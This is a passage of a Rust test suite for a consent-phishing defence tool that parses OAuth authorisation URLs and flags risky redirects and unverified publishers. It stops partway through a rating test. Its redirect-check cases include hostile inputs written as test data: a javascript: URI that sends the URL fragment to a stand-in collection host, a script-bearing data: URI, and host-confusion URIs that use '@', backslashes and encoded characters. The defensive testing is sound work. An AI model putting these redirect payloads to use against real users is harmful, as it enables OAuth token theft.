//! Reading consent requests: parsers per provider, page wording, redirect checks, policy, review.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed unwrap is a failed test

mod support;

use consent_guard::consent::{parse, read_page, ConsentRequest, RequestReview};
use consent_guard::finding::Finding;
use consent_guard::finding::{RequestKey, RuleId, Words};
use consent_guard::lookalike::Lookalikes;
use consent_guard::policy::Policy;
use consent_guard::providers;
use consent_guard::redirect;
use consent_guard::scopes::Tier;
use consent_guard::snapshot::PageSnapshot;
use consent_guard::verdict::Severity;

/// The page read with Microsoft's verified-publisher marks (`data/providers.json`).
fn read_ms(snap: &PageSnapshot) -> consent_guard::consent::AppDetails {
    let microsoft = providers::builtin().providers.iter().find(|p| p.id == "microsoft").unwrap();
    read_page(snap, &microsoft.publisher.marks)
}

fn looks() -> Lookalikes {
    Lookalikes::new(&providers::builtin().providers)
}

fn review(provider: &str, url: &str, snap: &PageSnapshot, policy: &Policy) -> Option<(RequestReview, Vec<Finding>)> {
    consent_guard::consent::review(provider, url, snap, policy, &looks())
}

const ADO: &str = "https://app.vssps.visualstudio.com/oauth2/authorize";
const APP: &str = "6a9f1c3e-2b4d-4e8f-9a0b-1c2d3e4f5a6b";

fn ado(query: &str) -> Option<ConsentRequest> {
    parse("azure-devops", &format!("{ADO}?{query}"))
}

#[test]
fn azure_devops_requests() {
    let r = ado(&format!(
        "client_id={APP}&response_type=Assertion&state=xyz&scope=vso.code_write%20vso.build+vso.profile&redirect_uri=https%3A%2F%2Fbuild.contoso.com%2Foauth%2Fcallback"
    ))
    .unwrap();
    assert_eq!(r.provider, "azure-devops");
    assert_eq!(r.client_id.as_deref(), Some(APP));
    assert_eq!(r.response_type.as_deref(), Some("Assertion"));
    assert_eq!(r.scopes, ["vso.code_write", "vso.build", "vso.profile"]);
    assert_eq!(r.redirect_uri.as_deref(), Some("https://build.contoso.com/oauth/callback"));
    assert!(r.offline_access);
    assert!(r.conflicting_parameters.is_empty());

    // Duplicates inside the scope list collapse; the first spelling stays.
    assert_eq!(ado("client_id=a&scope=vso.code%20VSO.CODE%20%20vso.work").unwrap().scopes, ["vso.code", "vso.work"]);
    // Missing scope and redirect: still a request (the app's registration fills them in).
    let bare = ado(&format!("client_id={APP}&response_type=Assertion")).unwrap();
    assert!(bare.scopes.is_empty() && bare.redirect_uri.is_none());
    // Empty values count as missing.
    assert_eq!(ado("client_id=&scope=").map(|r| r.client_id), None);
    // No request at all.
    assert_eq!(ado("state=1"), None);
    assert_eq!(parse("azure-devops", ADO), None);
}

#[test]
fn repeated_parameters_first_wins_and_differences_are_reported() {
    let r = ado(&format!(
        "client_id={APP}&client_id=ffffffff-0000-0000-0000-000000000000&scope=vso.profile&scope=vso.profile"
    ))
    .unwrap();
    assert_eq!(r.client_id.as_deref(), Some(APP));
    assert_eq!(r.conflicting_parameters, ["client_id"]);
    // The same value twice is not a conflict; nor are non-decisive parameters.
    let same = ado(&format!("client_id={APP}&client_id={APP}&state=1&state=2")).unwrap();
    assert!(same.conflicting_parameters.is_empty());
    let redirect = ado("client_id=a&redirect_uri=https://a.example/cb&redirect_uri=https://b.example/cb").unwrap();
    assert_eq!(redirect.redirect_uri.as_deref(), Some("https://a.example/cb"));
    assert_eq!(redirect.conflicting_parameters, ["redirect_uri"]);
}

#[test]
fn junk_never_panics() {
    let long = "a".repeat(100_000);
    let many_scopes = (0..5_000).map(|i| format!("s{i}")).collect::<Vec<_>>().join("%20");
    let inputs = [
        String::new(),
        "not a url".to_string(),
        "https://".to_string(),
        "javascript:alert(1)".to_string(),
        format!("{ADO}?client_id=%ZZ%&scope=%E2%82"),
        format!("{ADO}?client_id={long}"),
        format!("{ADO}?client_id=x&scope={many_scopes}"),
        format!("{ADO}?&&&=&=x&client_id=%00%01%02"),
        format!("{ADO}?client_id=%F0%9F%98%80%E2%80%AE&scope=vso.code%E2%80%8B"),
        "https://github.com/login?return_to=%2Flogin%3Freturn_to%3D%252Flogin%253Freturn_to%253D%25252Flogin"
            .to_string(),
        "https://accounts.google.com/v3/signin/identifier?continue=:::".to_string(),
    ];
    for provider in ["azure-devops", "microsoft", "github", "google", "acme"] {
        for url in &inputs {
            if let Some(r) = parse(provider, url) {
                assert!(r.scopes.len() <= 100);
                assert!(r.client_id.as_ref().is_none_or(|c| c.chars().count() <= 200));
            }
        }
    }
    let r = ado("client_id=x&scope=a%20b").unwrap();
    assert_eq!(r.scopes, ["a", "b"]);
    let r = parse("azure-devops", &format!("{ADO}?client_id=x&scope={many_scopes}")).unwrap();
    assert_eq!(r.scopes.len(), 100);
}

#[test]
fn microsoft_requests() {
    struct Case {
        url: &'static str,
        tenant: Option<&'static str>,
        scopes: &'static [&'static str],
        resource: Option<&'static str>,
        admin: bool,
        offline: bool,
        prompt: Option<&'static str>,
    }
    let cases = [
        Case {
            url: "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4c7a8f0e-1111-4222-8333-944455566677&response_type=code&redirect_uri=https%3A%2F%2Fmail-helper.example%2Fauth&scope=openid%20offline_access%20https%3A%2F%2Fgraph.microsoft.com%2FMail.Read&prompt=consent&state=1",
            tenant: Some("common"),
            scopes: &["openid", "offline_access", "https://graph.microsoft.com/Mail.Read"],
            resource: None,
            admin: false,
            offline: true,
            prompt: Some("consent"),
        },
        Case {
            url: "https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/authorize?client_id=4c7a8f0e-1111-4222-8333-944455566677&response_type=code&resource=https%3A%2F%2Fgraph.microsoft.com&prompt=admin_consent",
            tenant: Some("contoso.onmicrosoft.com"),
            scopes: &[],
            resource: Some("https://graph.microsoft.com"),
            admin: true,
            offline: false,
            prompt: Some("admin_consent"),
        },
        Case {
            url: "https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/v2.0/adminconsent?client_id=4c7a8f0e-1111-4222-8333-944455566677&scope=https://graph.microsoft.com/.default&redirect_uri=https://contoso.example/admin",
            tenant: Some("72f988bf-86f1-41af-91ab-2d7cd011db47"),
            scopes: &["https://graph.microsoft.com/.default"],
            resource: None,
            admin: true,
            offline: false,
            prompt: None,
        },
        Case {
            url: "https://login.microsoftonline.com/organizations/adminconsent?client_id=4c7a8f0e-1111-4222-8333-944455566677",
            tenant: Some("organizations"),
            scopes: &[],
            resource: None,
            admin: true,
            offline: false,
            prompt: None,
        },
        Case {
            url: "https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id=4c7a8f0e-1111-4222-8333-944455566677&scope=499b84ac-1321-427f-aa17-267ca6975798%2F.default+offline_access",
            tenant: Some("organizations"),
            scopes: &["499b84ac-1321-427f-aa17-267ca6975798/.default", "offline_access"],
            resource: None,
            admin: false,
            offline: true,
            prompt: None,
        },
        Case {
            url: "https://login.live.com/oauth20_authorize.srf?client_id=000000004C12AB34&scope=Files.ReadWrite+offline_access&response_type=code",
            tenant: None,
            scopes: &["Files.ReadWrite", "offline_access"],
            resource: None,
            admin: false,
            offline: true,
            prompt: None,
        },
    ];
    for c in cases {
        let r = parse("microsoft", c.url).unwrap_or_else(|| panic!("{}", c.url));
        assert_eq!(r.tenant.as_deref(), c.tenant, "{}", c.url);
        assert_eq!(r.scopes, c.scopes, "{}", c.url);
        assert_eq!(r.resource.as_deref(), c.resource, "{}", c.url);
        assert_eq!(r.admin_consent, c.admin, "{}", c.url);
        assert_eq!(r.offline_access, c.offline, "{}", c.url);
        assert_eq!(r.prompt.as_deref(), c.prompt, "{}", c.url);
    }
    // The sign-in page after the form post carries no request.
    assert_eq!(parse("microsoft", "https://login.microsoftonline.com/common/login"), None);
}

#[test]
fn github_requests_direct_and_embedded_in_sign_in() {
    let direct = parse("github", "https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri=https%3A%2F%2Fci.example%2Fgh&scope=repo,read:org%20user:email&state=s").unwrap();
    assert_eq!(direct.client_id.as_deref(), Some("Iv1.8a61f9b3a7aba766"));
    assert_eq!(direct.scopes, ["repo", "read:org", "user:email"]);
    assert!(direct.offline_access);

    let embedded = parse("github", "https://github.com/login?client_id=Ov23liABCDEF&return_to=%2Flogin%2Foauth%2Fauthorize%3Fclient_id%3DOv23liABCDEF%26redirect_uri%3Dhttps%253A%252F%252Fci.example%252Fgh%26scope%3Drepo%252Cworkflow").unwrap();
    assert_eq!(embedded.client_id.as_deref(), Some("Ov23liABCDEF"));
    assert!(embedded.scopes.is_empty(), "the outer URL has the client id, so it is the request");

    let only_return_to = parse("github", "https://github.com/login?return_to=%2Flogin%2Foauth%2Fauthorize%3Fclient_id%3DOv23liABCDEF%26redirect_uri%3Dhttps%253A%252F%252Fci.example%252Fgh%26scope%3Drepo%252Cworkflow").unwrap();
    assert_eq!(only_return_to.client_id.as_deref(), Some("Ov23liABCDEF"));
    assert_eq!(only_return_to.scopes, ["repo", "workflow"]);
    assert_eq!(only_return_to.redirect_uri.as_deref(), Some("https://ci.example/gh"));

    // return_to pointing at another origin is not GitHub's request.
    assert_eq!(parse("github", "https://github.com/login?return_to=https%3A%2F%2Fevil.example%2Flogin%2Foauth%2Fauthorize%3Fclient_id%3Dx%26scope%3Drepo"), None);
    // Plain sign-in: no request.
    assert_eq!(parse("github", "https://github.com/login"), None);
    // No scope: public information only.
    let none = parse("github", "https://github.com/login/oauth/authorize?client_id=abc").unwrap();
    assert!(none.scopes.is_empty());
}

#[test]
fn google_requests_direct_and_embedded() {
    let direct = parse("google", "https://accounts.google.com/o/oauth2/v2/auth?client_id=123-abc.apps.googleusercontent.com&redirect_uri=https://app.example/cb&response_type=code&scope=openid%20email%20https://www.googleapis.com/auth/gmail.readonly&access_type=offline&include_granted_scopes=true").unwrap();
    assert_eq!(direct.client_id.as_deref(), Some("123-abc.apps.googleusercontent.com"));
    assert_eq!(direct.scopes, ["openid", "email", "https://www.googleapis.com/auth/gmail.readonly"]);
    assert!(direct.offline_access && direct.include_granted_scopes);

    let online = parse("google", "https://accounts.google.com/o/oauth2/auth?client_id=1.apps.googleusercontent.com&scope=profile&access_type=online").unwrap();
    assert!(!online.offline_access && !online.include_granted_scopes);

    let inner = "https://accounts.google.com/o/oauth2/v2/auth?client_id=9-x.apps.googleusercontent.com&scope=https%3A%2F%2Fmail.google.com%2F&redirect_uri=https%3A%2F%2Fx.example%2Fcb&access_type=offline";
    let sign_in = format!(
        "https://accounts.google.com/v3/signin/identifier?continue={}&flowName=GeneralOAuthFlow",
        urlencode(inner)
    );
    let r = parse("google", &sign_in).unwrap();
    assert_eq!(r.client_id.as_deref(), Some("9-x.apps.googleusercontent.com"));
    assert_eq!(r.scopes, ["https://mail.google.com/"]);
    assert!(r.offline_access);

    // Twice nested: sign-in whose continue is the consent page whose continue is the request.
    let consent = format!("https://accounts.google.com/signin/oauth/consent?authuser=0&continue={}", urlencode(inner));
    let twice = format!("https://accounts.google.com/v3/signin/challenge/pwd?continue={}", urlencode(&consent));
    assert_eq!(parse("google", &twice).unwrap().scopes, ["https://mail.google.com/"]);

    // continue on another origin is ignored.
    let away = format!(
        "https://accounts.google.com/v3/signin/identifier?continue={}",
        urlencode("https://evil.example/o/oauth2/v2/auth?client_id=1&scope=drive")
    );
    assert_eq!(parse("google", &away), None);
}

fn urlencode(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

fn page(text: &str) -> PageSnapshot {
    PageSnapshot { text: text.to_string(), ..PageSnapshot::default() }
}

#[test]
fn app_name_publisher_and_website_from_page_wording() {
    type Shown<'a> = (&'a str, Option<&'a str>, Option<&'a str>, Option<&'a str>);
    let cases: &[Shown] = &[
        (
            "Azure DevOps\nAuthorize application\nContoso Build Helper by Contoso Ltd would like permission to access your Azure DevOps resources.\nWebsite: https://www.contoso.com\nAccept\nDeny",
            Some("Contoso Build Helper"), Some("Contoso Ltd"), Some("https://www.contoso.com"),
        ),
        ("Octo CI by octo-org wants to access your monalisa account", Some("Octo CI"), Some("octo-org"), None),
        ("Mail Sorter wants access to your Google Account\nuser@example.com", Some("Mail Sorter"), None, None),
        ("Sign in\nto continue to Acme Notes", Some("Acme Notes"), None, None),
        ("Permissions requested\nInbox Cleaner\nunverified\nThis app would like to:", Some("Inbox Cleaner"), None, None),
        ("Permissions requested\nFabrikam Sync\nFabrikam Inc\nThis app would like to:", Some("Fabrikam Sync"), Some("Fabrikam Inc"), None),
        ("The application “Deploy Bot” is requesting permission to access your account\nPublisher: Deploy Co", Some("Deploy Bot"), Some("Deploy Co"), None),
        (
            "Authorize application\nContoso CI by contoso\nwants to access your octocat account\nRepositories\nAuthorize contoso\nAuthorizing will redirect to https://ci.contoso.com\nci.contoso.com · Created 2 years ago · More than 1K GitHub users",
            Some("Contoso CI"), Some("contoso"), Some("ci.contoso.com"),
        ),
        (
            "Azure DevOps\nAuthorize application\nC\nContoso Build Monitor\nby Contoso Ltd\nShows the state of your pipelines.\nCompany website\nContoso Build Monitor would like permission to access your Azure DevOps resources:\nvso.build",
            Some("Contoso Build Monitor"), Some("Contoso Ltd"), None,
        ),
        ("wants to access your account", None, None, None),
        // One text node per line, as the content script sends them.
        (
            "Azure DevOps\nAuthorize application\nC\nContoso Build Monitor\nby\nContoso Ltd\nShows the state of your pipelines.\nCompany website\nApplication website\nContoso Build Monitor would like permission to access your Azure DevOps resources:\nvso.build",
            Some("Contoso Build Monitor"), Some("Contoso Ltd"), None,
        ),
        (
            "Authorize application\nContoso CI\nby\ncontoso\nwants to access your\noctocat\naccount\nRepositories\nci.contoso.com\n· Created 2 years ago · More than 1K GitHub users",
            Some("Contoso CI"), Some("contoso"), Some("ci.contoso.com"),
        ),
        ("Sign in with Google\nSign in\nto continue to\nContoso Notes\nForgot email?", Some("Contoso Notes"), None, None),
        ("Publisher:\nFabrikam Inc\nWebsite:\nhttps://fabrikam.example", None, Some("Fabrikam Inc"), Some("https://fabrikam.example")),
        ("adele.vance@contoso.com\nPermissions requested\nMS\nMail Summary Assistant\nunverified\nThis app would like to:\nRead and write access to your mail", Some("Mail Summary Assistant"), None, None),
        ("Welcome to our blog about OAuth", None, None, None),
        ("Authorize application\nContoso Build Helper\nby Contoso Ltd\nWebsite: contoso.com", Some("Contoso Build Helper"), Some("Contoso Ltd"), Some("contoso.com")),
        ("Mail Sorter wants access to your Google Account\nBy continuing, Google will share your name and email address", Some("Mail Sorter"), None, None),
        ("This app would like to read your mail", None, None, None),
        ("", None, None, None),
    ];
    for (text, name, publisher, website) in cases {
        let d = read_ms(&page(text));
        assert_eq!(d.name.as_deref(), *name, "{text}");
        assert_eq!(d.publisher.as_deref(), *publisher, "{text}");
        assert_eq!(d.website.as_deref(), *website, "{text}");
    }
    assert!(read_ms(&page("Permissions requested\nInbox Cleaner\nunverified")).publisher_unverified);
    assert!(!read_ms(&page("Permissions requested\nFabrikam Sync\nFabrikam Inc")).publisher_unverified);
    // Fail-safe: a publisher's line is verified only with the page's verified mark on it or right
    // after it; "unverified" is no such mark.
    let shown = read_ms(&page("Permissions requested\nFabrikam Sync\nFabrikam Inc\nThis app would like to:"));
    assert_eq!((shown.publisher.as_deref(), shown.publisher_verified), (Some("Fabrikam Inc"), false));
    let marked =
        read_ms(&page("Permissions requested\nFabrikam Sync\nFabrikam Inc\n✓ Verified\nThis app would like to:"));
    assert_eq!((marked.publisher.as_deref(), marked.publisher_verified), (Some("Fabrikam Inc"), true));
    let inline = read_ms(&page("Permissions requested\nFabrikam Sync\nFabrikam Inc (verified publisher)"));
    assert_eq!((inline.publisher.as_deref(), inline.publisher_verified), (Some("Fabrikam Inc"), true));
    let not_a_mark = read_ms(&page("Permissions requested\nFabrikam Sync\nFabrikam Inc unverified"));
    assert!(!not_a_mark.publisher_verified, "{not_a_mark:?}");
    // Admin consent: the subheading is no app name, and the app's name is no publisher.
    let admin = read_ms(&page(
        "Permissions requested\nReview for your organization\nMicrosoft Defender Mail Protection\nunverified\nThis app would like to:",
    ));
    assert_eq!(admin.name.as_deref(), Some("Microsoft Defender Mail Protection"));
    assert!(admin.publisher.is_none() && admin.publisher_unverified && !admin.publisher_verified, "{admin:?}");
    // A name longer than anything a provider shows is not taken.
    let long = format!("{} wants to access your account", "x".repeat(500));
    assert_eq!(read_ms(&page(&long)).name, None);
    // Multi-byte text around the markers does not break slicing.
    let d = read_ms(&page("Ünïcödé Äpp by Ömega GmbH wants to access your account"));
    assert_eq!(d.name.as_deref(), Some("Ünïcödé Äpp"));
    assert_eq!(d.publisher.as_deref(), Some("Ömega GmbH"));
}

fn rules(findings: &[consent_guard::Finding]) -> Vec<(&str, Severity)> {
    findings.iter().map(|f| (f.rule.as_str(), f.severity)).collect()
}

#[test]
fn redirect_checks() {
    use Severity::*;
    type Case<'a> = (Option<&'a str>, Option<&'a str>, Tier, &'a [(&'a str, Severity)]);
    let cases: &[Case] = &[
        (Some("https://build.contoso.com/oauth/callback"), None, Tier::High, &[]),
        (Some("https://build.contoso.com/cb"), Some("https://www.contoso.com"), Tier::High, &[]),
        (Some("https://build.contoso.com/cb"), Some("contoso.com"), Tier::Low, &[]),
        (None, None, Tier::Critical, &[]),
        (Some("http://127.0.0.1:8400/"), None, Tier::High, &[]),
        (Some("http://localhost:3000/callback"), None, Tier::High, &[]),
        (Some("http://[::1]:9000/"), None, Tier::High, &[]),
        (Some("msal4c7a8f0e-1111-4222-8333-944455566677://auth"), None, Tier::High, &[]),
        (Some("urn:ietf:wg:oauth:2.0:oob"), None, Tier::High, &[]),
        (Some("http://build.contoso.com/cb"), None, Tier::Low, &[("redirect.not-https", Caution)]),
        (Some("https://203.0.113.7/cb"), None, Tier::Low, &[("redirect.ip-literal", Caution)]),
        (Some("https://[2001:db8::1]/cb"), None, Tier::Low, &[("redirect.ip-literal", Caution)]),
        (Some("https://contoso-oauth.azurewebsites.net/cb"), None, Tier::High, &[("redirect.content-host", Caution)]),
        (Some("https://a1b2c3.ngrok-free.app/cb"), None, Tier::Low, &[("redirect.content-host", Caution)]),
        (Some("https://login.micros0ftonline.com/cb"), None, Tier::Low, &[("redirect.lookalike", Caution)]),
        (Some("https://login.micros0ftonline.com/cb"), None, Tier::Critical, &[("redirect.lookalike", Danger)]),
        (
            Some("https://build.fabrikam.net/cb"),
            Some("https://www.contoso.com"),
            Tier::Medium,
            &[("redirect.other-domain", Caution)],
        ),
        (Some("https://build.contoso.com@collect.evil.example/cb"), None, Tier::Low, &[("redirect.userinfo", Caution)]),
        (Some("not a url"), None, Tier::Low, &[("redirect.unreadable", Caution)]),
        // Written so that browsers and servers read different hosts: a backslash (a browser reads a
        // path, a literal parser a user name before pages.dev), encoded `\` and `@`, a tab or line
        // break browsers drop, an `@` after a backslash, backslashes for the two slashes.
        (
            Some("https://ci.contoso.com\\@ci-artifacts.pages.dev/cb"),
            None,
            Tier::Critical,
            &[("redirect.ambiguous-host", Caution)],
        ),
        (
            Some("https://ci.contoso.com%5C%40ci-artifacts.pages.dev/cb"),
            None,
            Tier::Critical,
            &[("redirect.ambiguous-host", Caution)],
        ),
        (
            Some("https://ci.contoso.com%40ci-artifacts.pages.dev/cb"),
            None,
            Tier::Low,
            &[("redirect.ambiguous-host", Caution)],
        ),
        (
            Some("https://ci.contoso.com\t.ci-artifacts.pages.dev/cb"),
            None,
            Tier::Low,
            &[("redirect.ambiguous-host", Caution), ("redirect.content-host", Caution)],
        ),
        (
            Some("https://ci.contoso.com\n@ci-artifacts.pages.dev/cb"),
            None,
            Tier::Low,
            &[("redirect.ambiguous-host", Caution), ("redirect.userinfo", Caution), ("redirect.content-host", Caution)],
        ),
        (Some("ht\ttps://ci.contoso.com/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
        (Some("https://ci.contoso.com\\x\\@evil.example/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
        (Some("https:\\\\ci.contoso.com/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
        (Some("http://localhost\\@collect.evil.example/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
        // Look-alikes that are plain: `@` only in the query or the fragment, encoded characters and a
        // backslash in the path.
        (Some("https://build.contoso.com/cb?next=ops@contoso.com"), None, Tier::Critical, &[]),
        (Some("https://build.contoso.com/cb#user@contoso.com"), None, Tier::Critical, &[]),
        (Some("https://build.contoso.com/cb%20done/%40team%5Cx"), None, Tier::Critical, &[]),
        (Some("https://build.contoso.com/a\\b?x=%5C%40"), None, Tier::Critical, &[]),
        (
            Some("javascript:fetch('//collect.example/'+location.hash)"),
            None,
            Tier::Low,
            &[("redirect.not-web", Caution)],
        ),
        (Some("data:text/html,<script>alert(1)</script>"), None, Tier::Low, &[("redirect.not-web", Caution)]),
        (Some("https://oauth-cb.gitlab.io/cb"), None, Tier::Low, &[("redirect.content-host", Caution)]),
        (Some("https://app-cb.surge.sh/cb"), None, Tier::Low, &[("redirect.content-host", Caution)]),
        (
            Some("http://203.0.113.7/cb"),
            None,
            Tier::Low,
            &[("redirect.not-https", Caution), ("redirect.ip-literal", Caution)],
        ),
    ];
    for (uri, website, risk, want) in cases {
        let check = redirect::check(*uri, *website, *risk, &looks());
        assert_eq!(rules(&check.findings), *want, "{uri:?} website {website:?}");
        for f in &check.findings {
            assert!(f.params.len() == f.rule.info().params.len() && !f.evidence.is_empty());
        }
    }
    let native = redirect::check(Some("http://127.0.0.1:8400/"), None, Tier::High, &looks());
    assert_eq!(native.note.unwrap().key, RequestKey::NoteLocalApp);
    assert_eq!(native.destination, Words::new(RequestKey::DestinationLocalApp, vec!["http://127.0.0.1:8400".into()]));
    assert_eq!(
        redirect::check(Some("https://build.contoso.com/x"), None, Tier::Low, &looks()).destination,
        Words::new(RequestKey::DestinationHost, vec!["build.contoso.com".into()])
    );
}

fn policy(json: &str) -> Policy {
    serde_json::from_str(json).unwrap()
}

#[test]
fn policy_blocks_and_approves_client_ids() {
    let url = format!(
        "{ADO}?client_id={APP}&response_type=Assertion&scope=vso.profile&redirect_uri=https://build.contoso.com/cb"
    );
    let snap = page("Contoso Build Helper by Contoso Ltd would like permission to access your Azure DevOps resources.");
    let upper = APP.to_uppercase();
    let cases: &[(String, &[(&str, Severity)])] = &[
        ("{}".to_string(), &[]),
        (
            format!(r#"{{"blockedClients":{{"azure-devops":["{upper}"]}}}}"#),
            &[("policy.blocked-app", Severity::Danger)],
        ),
        (format!(r#"{{"blockedClients":{{"github":["{APP}"]}}}}"#), &[]),
        (format!(r#"{{"approvedClients":{{"azure-devops":["{upper}"]}}}}"#), &[]),
        (
            r#"{"approvedClients":{"azure-devops":["00000000-0000-0000-0000-000000000000"]}}"#.to_string(),
            &[("policy.unapproved-app", Severity::Caution)],
        ),
        (r#"{"approvedClients":{"azure-devops":[]}}"#.to_string(), &[("policy.unapproved-app", Severity::Caution)]),
        (r#"{"approvedClients":{"microsoft":["00000000-0000-0000-0000-000000000000"]}}"#.to_string(), &[]),
        (
            format!(
                r#"{{"approvedClients":{{"azure-devops":["{APP}"]}},"blockedClients":{{"azure-devops":["{APP}"]}}}}"#
            ),
            &[("policy.blocked-app", Severity::Danger)],
        ),
        (r#"{"approvedClients":{},"someFutureKey":true}"#.to_string(), &[]),
    ];
    for (json, want) in cases {
        let (_, findings) = review("azure-devops", &url, &snap, &policy(json)).unwrap();
        assert_eq!(rules(&findings), *want, "{json}");
    }
    let f =
        review("azure-devops", &url, &snap, &policy(&format!(r#"{{"blockedClients":{{"azure-devops":["{APP}"]}}}}"#)))
            .unwrap()
            .1;
    assert_eq!(f[0].rule, RuleId::PolicyBlockedApp);
    assert!(f[0].evidence[0].value.contains(APP));
    // Non-GUID ids compare exactly.
    let gh = "https://github.com/login/oauth/authorize?client_id=Ov23liAbC&scope=repo";
    let lower = policy(r#"{"blockedClients":{"github":["ov23liabc"]}}"#);
    assert!(review("github", gh, &page(""), &lower).unwrap().1.is_empty());
    let exact = policy(r#"{"blockedClients":{"github":["Ov23liAbC"]}}"#);
    assert_eq!(rules(&review("github", gh, &page(""), &exact).unwrap().1), [("policy.blocked-app", Severity::Danger)]);
}

#[test]
fn a_critical_request_from_an_unverified_publisher_is_caution_first() {
    let none = Policy::default();
    let url = "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile%20app_token&redirect_uri=https%3A%2F%2Fbuild.fabrikam.net%2Fcb";
    let unknown =
        page("Token Sync would like permission to access your Azure DevOps resources.\nWebsite: https://contoso.com");
    let (_, findings) = review("azure-devops", url, &unknown, &none).unwrap();
    assert_eq!(rules(&findings).first(), Some(&("request.critical-unverified", Severity::Caution)), "{findings:?}");
    // Azure DevOps marks no publisher as verified: the company shown is what the app's registrant
    // typed, so a critical request is caution with it too.
    let typed = page("Token Sync by Contoso Ltd would like permission to access your Azure DevOps resources.\nWebsite: https://fabrikam.net");
    let (review_typed, findings) = review("azure-devops", url, &typed, &none).unwrap();
    assert_eq!(review_typed.request.publisher.as_deref(), Some("Contoso Ltd"));
    assert_eq!(rules(&findings).first(), Some(&("request.critical-unverified", Severity::Caution)), "{findings:?}");
    // Microsoft: a publisher vouched for only with the page's verified mark on its line.
    let ms = "https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=a&scope=Directory.ReadWrite.All&redirect_uri=https%3A%2F%2Fapp.fabrikam.net%2Fcb";
    for (text, vouched) in [
        ("Permissions requested\nFabrikam Directory Sync\nFabrikam Inc\nVerified\nThis app would like to:", true),
        ("Permissions requested\nFabrikam Directory Sync\nFabrikam Inc ✓ Publisher verified\nThis app would like to:", true),
        ("Permissions requested\nFabrikam Directory Sync\nFabrikam Inc\nThis app would like to:", false),
        ("Permissions requested\nFabrikam Directory Sync\nunverified\nThis app would like to:", false),
        ("Permissions requested\nReview for your organization\nFabrikam Directory Sync\nunverified\nThis app would like to:", false),
    ] {
        let (r, findings) = review("microsoft", ms, &page(text), &none).unwrap();
        assert_eq!(r.request.app_name.as_deref(), Some("Fabrikam Directory Sync"), "{text}");
        assert_eq!(
            rules(&findings).iter().any(|(r, _)| *r == "request.critical-unverified"),
            !vouched,
            "{text}: {findings:?}"
        );
    }
    // A low request from an unknown publisher is no reason for caution.
    let low = "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile&redirect_uri=https%3A%2F%2Fbuild.fabrikam.net%2Fcb";
    let (_, findings) = review("azure-devops", low, &unknown, &none).unwrap();
    assert!(!rules(&findings).iter().any(|(r, _)| *r == "request.critical-unverified"), "{findings:?}");
}

/// An app the provider's own page marks unverified asking for high access to three kinds of data
/// (mail, files, contacts) is caution; the same app asking for two of them, for sign-in and profile,
/// or a verified publisher asking for all three, is not.
#[test]
fn broad_high_access_from_a_publisher_marked_unverified_is_caution() {
    let none = Policy::default();
    let ms = |scope: &str| {
        format!("https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=a&scope={scope}&redirect_uri=https%3A%2F%2Fteams-addin.cloud-sync.app%2Fauth")
    };
    let unverified = page("Permissions requested\nZoom for Outlook\nunverified\nThis app would like to:");
    let verified =
        page("Permissions requested\nZoom for Outlook\nZoom Video Communications\nVerified\nThis app would like to:");
    let broad = |scope: &str, p: &PageSnapshot| {
        let (_, findings) = review("microsoft", &ms(scope), p, &none).unwrap();
        rules(&findings).iter().any(|(r, _)| *r == "request.broad-unverified")
    };
    assert!(broad("Mail.ReadWrite%20Files.ReadWrite.All%20Contacts.Read", &unverified));
    for (scope, p) in [
        ("Mail.ReadWrite%20Files.ReadWrite.All%20offline_access%20User.Read", &unverified),
        ("openid%20profile%20User.Read", &unverified),
        ("Mail.Read", &unverified),
        ("Mail.ReadWrite%20Files.ReadWrite.All%20Contacts.Read", &verified),
        // critical: request.critical-unverified's
        ("Directory.ReadWrite.All%20Mail.ReadWrite%20Files.ReadWrite.All%20Contacts.Read", &unverified),
    ] {
        assert!(!broad(scope, p), "{scope}");
    }
}

#[test]
fn review_rates_and_summarises() {
    let none = Policy::default();
    let cases: &[(&str, &str, Tier, &str)] = &[
        ("azure-devops", "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile%20vso.project", Tier::Low, "This app can read your profile and the organisations you belong to and read projects and teams"),
        ("azure-devops", "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.code_write%20vso.profile", Tier::High, "This app can read and change all your code"),
        ("azure-devops", "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile%20app_token", Tier::Critical, "This app can act as you everywhere in Azure DevOps"),
        ("azure-devops", "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile%20vso.teleport", Tier::Unknown, "This app asks for permissions we cannot rate: vso.teleport"),
        ("microsoft", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=a&scope=openid+Mail.Read", Tier::High, "This app can read your mail"),
        ("microsoft", "https://login.microsoftonline.com/common/oauth2/authorize?client_id=a&resource=499b84ac-1321-427f-aa17-267ca6975798", Tier::High, "This app can use every Azure DevOps permission the app registered for, often full access"),
        ("microsoft", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=a&scope=https%3A%2F%2Fvault.azure.net%2Fsecrets.everything", Tier::High, "This app asks for permissions we have no description for: https://vault.azure.net/secrets.everything"),
        ("microsoft", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=a&scope=Mail.Read%20https%3A%2F%2Fvault.azure.net%2Fsecrets.everything", Tier::High, "This app can read your mail"),
        ("github", "https://github.com/login/oauth/authorize?client_id=a&scope=repo", Tier::High, "This app can read and change all your code"),
        ("github", "https://github.com/login/oauth/authorize?client_id=a", Tier::Low, "This app can read only your public profile"),
        ("google", "https://accounts.google.com/o/oauth2/v2/auth?client_id=a&scope=openid%20email", Tier::Low, "This app can sign you in and read your email address"),
    ];
